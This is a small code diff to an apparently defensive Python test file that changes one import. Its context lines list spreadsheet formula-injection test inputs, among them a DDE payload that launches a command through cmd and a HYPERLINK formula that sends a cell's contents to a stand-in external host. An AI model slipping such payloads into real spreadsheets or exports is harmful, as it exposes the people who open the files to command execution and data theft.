@@ -9,7 +9,7 @@ import io
 import openpyxl
 import pandas as pd
 
-from layers import snapshot
+from layers.render import tables as snapshot
 
 FORMULAS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
             '=HYPERLINK("http://x.example/?"&A1,"click")']
